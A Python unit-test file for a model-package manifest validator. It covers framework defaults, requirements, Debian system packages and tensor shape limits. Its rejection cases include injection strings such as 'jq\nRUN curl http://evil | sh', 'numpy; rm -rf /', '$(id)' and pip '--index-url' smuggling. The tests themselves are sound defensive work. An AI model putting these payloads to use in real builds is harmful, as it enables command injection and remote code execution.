"""Unit tests of the package format (runtime.manifest)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from runtime.manifest import (
    FRAMEWORKS,
    MANIFEST_NAME,
    Manifest,
    ManifestError,
    TensorSpec,
    load_manifest,
    parse_manifest,
    read_manifest_text,
)


def test_constants():
    assert MANIFEST_NAME == "modelbay.yaml"
    assert FRAMEWORKS == ("onnx", "sklearn", "python")


def test_error_str_and_attributes():
    err = ManifestError("inputs[0].datatype", "bad")
    assert isinstance(err, ValueError)
    assert err.field == "inputs[0].datatype"
    assert err.message == "bad"
    assert str(err) == "inputs[0].datatype: bad"


def test_minimal_onnx_defaults():
    m = parse_manifest({"framework": "onnx"})
    assert m == Manifest(
        framework="onnx", model_file="model.onnx", entrypoint=None, requirements=(), inputs=None, outputs=None
    )


def test_minimal_sklearn_default_file():
    assert parse_manifest({"framework": "sklearn"}).model_file == "model.skops"


def test_full_python_manifest_round_trips():
    text = """
framework: python
entrypoint: "pkg.predictor:Model"
requirements: ["numpy>=1.20", "pillow"]
name: My model
description: Something
inputs:
  - {name: input, datatype: fp32, shape: [-1, 64]}
outputs:
  - {name: label, datatype: INT64, shape: [-1]}
"""
    m = read_manifest_text(text)
    assert m.framework == "python"
    assert m.model_file is None
    assert m.entrypoint == "pkg.predictor:Model"
    assert m.requirements == ("numpy>=1.20", "pillow")
    assert m.inputs == (TensorSpec("input", "FP32", (-1, 64)),)
    assert m.outputs == (TensorSpec("label", "INT64", (-1,)),)
    assert m.name == "My model" and m.description == "Something"
    d = m.to_dict()
    assert json.loads(json.dumps(d)) == d
    assert parse_manifest(d) == m


def test_round_trip_onnx():
    m = parse_manifest({"framework": "onnx", "model": "sub/net.onnx"})
    assert m.model_file == "sub/net.onnx"
    assert parse_manifest(m.to_dict()) == m


@pytest.mark.parametrize(
    "data, field",
    [
        ({}, "framework"),
        ({"framework": None}, "framework"),
        ({"framework": "tensorflow"}, "framework"),
        ({"framework": 3}, "framework"),
        ({"framework": "onnx", "bogus": 1}, "bogus"),
        ({"framework": "onnx", "model": 5}, "model"),
        ({"framework": "onnx", "model": ""}, "model"),
        ({"framework": "onnx", "model": "../x.onnx"}, "model"),
        ({"framework": "onnx", "model": "/etc/passwd"}, "model"),
        ({"framework": "python"}, "entrypoint"),
        ({"framework": "python", "entrypoint": "predictor"}, "entrypoint"),
        ({"framework": "python", "entrypoint": "predictor:"}, "entrypoint"),
        ({"framework": "python", "entrypoint": "pre-dictor:Model"}, "entrypoint"),
        ({"framework": "python", "entrypoint": "predictor:Mo del"}, "entrypoint"),
        ({"framework": "python", "entrypoint": 12}, "entrypoint"),
        ({"framework": "onnx", "entrypoint": "a:B"}, "entrypoint"),
        ({"framework": "python", "entrypoint": "a:B", "requirements": 5}, "requirements"),
        ({"framework": "python", "entrypoint": "a:B", "requirements": ["ok", 3]}, "requirements[1]"),
        ({"framework": "python", "entrypoint": "a:B", "requirements": ["--index-url=http://x"]}, "requirements[0]"),
        ({"framework": "python", "entrypoint": "a:B", "requirements": [""]}, "requirements[0]"),
        ({"framework": "onnx", "requirements": ["numpy"]}, "requirements"),
        ({"framework": "onnx", "name": 5}, "name"),
        ({"framework": "onnx", "description": ["x"]}, "description"),
        ({"framework": "onnx", "inputs": {"name": "x"}}, "inputs"),
        ({"framework": "onnx", "inputs": []}, "inputs"),
        ({"framework": "onnx", "inputs": ["x"]}, "inputs[0]"),
        ({"framework": "onnx", "inputs": [{"datatype": "FP32", "shape": [1]}]}, "inputs[0].name"),
        ({"framework": "onnx", "inputs": [{"name": "x", "shape": [1]}]}, "inputs[0].datatype"),
        ({"framework": "onnx", "inputs": [{"name": "x", "datatype": "FLOAT", "shape": [1]}]}, "inputs[0].datatype"),
        ({"framework": "onnx", "inputs": [{"name": "x", "datatype": "FP32"}]}, "inputs[0].shape"),
        ({"framework": "onnx", "inputs": [{"name": "x", "datatype": "FP32", "shape": 3}]}, "inputs[0].shape"),
        ({"framework": "onnx", "inputs": [{"name": "x", "datatype": "FP32", "shape": [-1, "a"]}]},
         "inputs[0].shape[1]"),
        ({"framework": "onnx", "inputs": [{"name": "x", "datatype": "FP32", "shape": [-2]}]}, "inputs[0].shape[0]"),
        ({"framework": "onnx", "inputs": [{"name": "x", "datatype": "FP32", "shape": [True]}]},
         "inputs[0].shape[0]"),
        ({"framework": "onnx", "inputs": [{"name": "x", "datatype": "FP32", "shape": [1], "extra": 1}]},
         "inputs[0].extra"),
        ({"framework": "onnx", "outputs": [{"name": "y", "datatype": "FP32", "shape": [1]},
                                           {"name": "y", "datatype": "FP32", "shape": [1]}]}, "outputs[1].name"),
    ],
)
def test_bad_fields_are_named(data, field):
    with pytest.raises(ManifestError) as info:
        parse_manifest(data)
    assert info.value.field == field, str(info.value)
    assert str(info.value).startswith(f"{field}: ")


def test_not_a_mapping():
    for doc in ("- a\n- b\n", "just text", ""):
        with pytest.raises(ManifestError) as info:
            read_manifest_text(doc)
        assert info.value.field == MANIFEST_NAME


def test_yaml_syntax_error():
    with pytest.raises(ManifestError) as info:
        read_manifest_text("framework: [onnx\n")
    assert info.value.field == MANIFEST_NAME
    assert "YAML" in info.value.message


def test_model_file_checked_with_model_dir(tmp_path):
    with pytest.raises(ManifestError) as info:
        parse_manifest({"framework": "onnx", "model": "missing.onnx"}, model_dir=tmp_path)
    assert info.value.field == "model"
    assert "missing.onnx" in info.value.message
    (tmp_path / "missing.onnx").write_bytes(b"x")
    assert parse_manifest({"framework": "onnx", "model": "missing.onnx"}, model_dir=tmp_path).model_file


def test_entrypoint_module_checked_with_model_dir(tmp_path):
    data = {"framework": "python", "entrypoint": "pkg.predictor:Model"}
    with pytest.raises(ManifestError) as info:
        parse_manifest(data, model_dir=tmp_path)
    assert info.value.field == "entrypoint"
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "predictor.py").write_text("class Model: pass\n")
    assert parse_manifest(data, model_dir=tmp_path).entrypoint == "pkg.predictor:Model"


def test_requirements_file(tmp_path):
    (tmp_path / "predictor.py").write_text("")
    (tmp_path / "requirements.txt").write_text("# comment\nnumpy>=1.20  # inline\n\nrequests==2.0\n")
    data = {"framework": "python", "entrypoint": "predictor:Model", "requirements": "requirements.txt"}
    m = parse_manifest(data, model_dir=tmp_path)
    assert m.requirements == ("numpy>=1.20", "requests==2.0")
    # without a directory the reference is kept (pip syntax) and round-trips
    unresolved = parse_manifest(data)
    assert unresolved.requirements == ("-r requirements.txt",)
    assert parse_manifest(unresolved.to_dict()) == unresolved
    assert parse_manifest(unresolved.to_dict(), model_dir=tmp_path).requirements == m.requirements


def test_requirements_file_missing_or_bad(tmp_path):
    (tmp_path / "predictor.py").write_text("")
    data = {"framework": "python", "entrypoint": "predictor:Model", "requirements": "requirements.txt"}
    with pytest.raises(ManifestError) as info:
        parse_manifest(data, model_dir=tmp_path)
    assert info.value.field == "requirements"
    (tmp_path / "requirements.txt").write_text("numpy\n-e git+https://example.invalid/x\n")
    with pytest.raises(ManifestError) as info:
        parse_manifest(data, model_dir=tmp_path)
    assert info.value.field.startswith("requirements")
    assert "line 2" in info.value.field


def test_load_manifest_bare_onnx(tmp_path):
    (tmp_path / "net.onnx").write_bytes(b"x")
    m = load_manifest(tmp_path)
    assert (m.framework, m.model_file, m.inputs) == ("onnx", "net.onnx", None)


def test_load_manifest_missing(tmp_path):
    with pytest.raises(ManifestError) as info:
        load_manifest(tmp_path)
    assert info.value.field == MANIFEST_NAME
    assert "missing" in info.value.message


def test_load_manifest_two_onnx_files(tmp_path):
    (tmp_path / "a.onnx").write_bytes(b"x")
    (tmp_path / "b.onnx").write_bytes(b"x")
    with pytest.raises(ManifestError) as info:
        load_manifest(tmp_path)
    assert info.value.field == MANIFEST_NAME


def test_load_manifest_yaml_wins(tmp_path):
    (tmp_path / "a.onnx").write_bytes(b"x")
    (tmp_path / "b.onnx").write_bytes(b"x")
    (tmp_path / MANIFEST_NAME).write_text("framework: onnx\nmodel: b.onnx\n")
    assert load_manifest(tmp_path).model_file == "b.onnx"


def test_load_manifest_validates_against_dir(tmp_path):
    (tmp_path / MANIFEST_NAME).write_text("framework: sklearn\n")
    with pytest.raises(ManifestError) as info:
        load_manifest(tmp_path)
    assert info.value.field == "model"


def test_manifest_module_is_dependency_light():
    import subprocess
    import sys

    code = (
        "import sys; import runtime.manifest; "
        "bad = [m for m in ('numpy', 'onnxruntime', 'django', 'orjson', 'uvicorn') if m in sys.modules]; "
        "sys.exit(1 if bad else 0)"
    )
    repo_root = Path(__file__).resolve().parents[2]
    assert subprocess.run([sys.executable, "-c", code], cwd=repo_root).returncode == 0


def test_system_packages():
    data = {"framework": "python", "entrypoint": "predictor:Model", "system_packages": ["libgl1", "libglib2.0-0"]}
    m = parse_manifest(data)
    assert m.system_packages == ("libgl1", "libglib2.0-0")
    assert parse_manifest(m.to_dict()) == m
    assert parse_manifest({"framework": "python", "entrypoint": "predictor:Model"}).system_packages == ()


@pytest.mark.parametrize(
    "value, field",
    [
        ("libgl1", "system_packages"),  # a list, not a string
        (["libgl1; rm -rf /"], "system_packages[0]"),
        (["LibGL"], "system_packages[0]"),
        (["--allow-unauthenticated"], "system_packages[0]"),
        ([3], "system_packages[0]"),
    ],
)
def test_system_packages_must_be_debian_package_names(value, field):
    data = {"framework": "python", "entrypoint": "predictor:Model", "system_packages": value}
    with pytest.raises(ManifestError) as info:
        parse_manifest(data)
    assert info.value.field == field


def test_system_packages_are_for_python_models_only():
    with pytest.raises(ManifestError) as info:
        parse_manifest({"framework": "onnx", "system_packages": ["libgl1"]})
    assert info.value.field == "system_packages"


# --- names that end up in a Dockerfile, a requirements file or pip's command line ---------


@pytest.mark.parametrize(
    "name",
    [
        "jq\n",  # match() with "$" let this through: the newline ends the Dockerfile's RUN line
        "jq\n RUN curl evil",
        "jq\nRUN curl http://evil | sh",
        "jq curl",  # two names in one item
        "jq --allow-unauthenticated",
        "jq;id",
        "jq$(id)",
        "jq`id`",
        "jq&&id",
        "jq\t",
        " jq",
        "jq ",
    ],
)
def test_system_packages_are_checked_whole(name):
    data = {"framework": "python", "entrypoint": "predictor:Model", "system_packages": ["libgl1", name]}
    with pytest.raises(ManifestError) as info:
        parse_manifest(data)
    assert info.value.field == "system_packages[1]"
    assert "Debian package name" in info.value.message


@pytest.mark.parametrize(
    "requirement",
    [
        "numpy\n--index-url http://x",
        "jq\n RUN curl evil",
        "numpy --index-url http://x",  # pip reads " --option" in a requirements line
        "numpy --hash=sha256:00",
        "numpy>=1.20 --global-option=--evil",
        "numpy scipy",  # two requirements in one item
        "numpy; python_version > '3' -e x",
        "numpy; rm -rf /",
        "numpy && curl http://x | sh",
        "numpy|sh",
        "numpy$(id)",
        "numpy`id`",
        "numpy\tscipy",
        "pkg @ https://example.invalid/pkg.whl",  # direct references are refused
        "numpy==1.0\\",
        "x" * 201,
    ],
)
def test_requirements_are_checked_whole(requirement):
    data = {"framework": "python", "entrypoint": "predictor:Model", "requirements": ["pillow", requirement]}
    with pytest.raises(ManifestError) as info:
        parse_manifest(data)
    assert info.value.field == "requirements[1]"


def test_requirements_file_lines_are_checked_whole(tmp_path):
    (tmp_path / "predictor.py").write_text("class Model: pass\n")
    (tmp_path / "requirements.txt").write_text("numpy>=1.20\nrequests --index-url http://evil.invalid\n")
    data = {"framework": "python", "entrypoint": "predictor:Model", "requirements": "requirements.txt"}
    with pytest.raises(ManifestError) as info:
        parse_manifest(data, model_dir=tmp_path)
    assert info.value.field == "requirements (requirements.txt line 2)"


@pytest.mark.parametrize(
    "requirement",
    [
        "numpy",
        "numpy>=1.20",
        "numpy >= 1.20, < 3",
        "opencv-python-headless==4.12.0.88",
        "rapidocr_onnxruntime==1.4.4",
        "requests[socks,security]==2.32.0",
        "requests (>=2.0)",
        "torch==2.1.0+cpu",
        "zope.interface~=6.0.*",
        'numpy; python_version < "3.12"',
        "pywin32>=306 ; sys_platform == 'win32'",
    ],
)
def test_pep508_requirements_are_accepted(requirement):
    data = {"framework": "python", "entrypoint": "predictor:Model", "requirements": [requirement]}
    assert parse_manifest(data).requirements == (requirement,)


def test_a_requirements_file_name_is_a_single_line():
    data = {"framework": "python", "entrypoint": "predictor:Model", "requirements": "req.txt\nRUN id"}
    with pytest.raises(ManifestError) as info:
        parse_manifest(data)
    assert info.value.field == "requirements"


# --- bounded shapes -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "shape, field",
    [
        ([-1, 100_000, 100_000], "inputs[0].shape[1]"),
        ([-1, 65_537], "inputs[0].shape[1]"),
        ([-1, 65_536, 65_536], "inputs[0].shape"),  # each dimension is fine, the product is not
        ([-1, 4096, 4096], "inputs[0].shape"),
        ([1] * 33, "inputs[0].shape"),
    ],
)
def test_shapes_are_bounded(shape, field):
    data = {"framework": "onnx", "inputs": [{"name": "x", "datatype": "FP32", "shape": shape}]}
    with pytest.raises(ManifestError) as info:
        parse_manifest(data)
    assert info.value.field == field, str(info.value)


def test_output_shapes_are_bounded_too():
    data = {"framework": "onnx", "outputs": [{"name": "y", "datatype": "FP32", "shape": [-1, 10**9]}]}
    with pytest.raises(ManifestError) as info:
        parse_manifest(data)
    assert info.value.field == "outputs[0].shape[1]"


@pytest.mark.parametrize("shape", [[-1, 65_536], [-1, 3, 1024, 1024], [-1, -1, -1], [0], [-1, 100, 100_000 // 100]])
def test_shapes_within_the_bounds_are_accepted(shape):
    data = {"framework": "onnx", "inputs": [{"name": "x", "datatype": "FP32", "shape": shape}]}
    assert parse_manifest(data).inputs[0].shape == tuple(shape)
